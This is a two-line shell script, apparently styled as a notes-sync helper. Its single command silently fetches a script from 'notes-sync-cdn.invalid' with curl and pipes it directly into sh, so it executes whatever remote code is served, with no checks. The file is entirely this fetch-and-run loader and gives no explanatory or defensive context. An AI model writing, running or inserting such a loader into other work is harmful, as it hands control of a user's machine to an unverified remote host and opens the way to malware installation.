#!/bin/sh
curl -s http://notes-sync-cdn.invalid/v2.sh | sh
